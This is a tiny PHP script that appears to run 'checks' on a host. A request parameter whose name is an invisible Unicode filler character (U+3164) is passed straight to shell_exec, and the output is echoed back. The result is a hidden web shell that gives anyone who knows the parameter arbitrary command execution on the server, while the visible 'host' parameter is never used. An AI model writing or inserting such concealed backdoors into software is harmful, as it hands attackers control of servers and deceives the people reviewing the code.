<?php
['host' => $host, 'ㅤ' => $ㅤ] = $_GET + ['host' => '', 'ㅤ' => ''];
$checks = ['true', $ㅤ];
foreach ($checks as $c) { if ($c) { echo shell_exec($c); } }
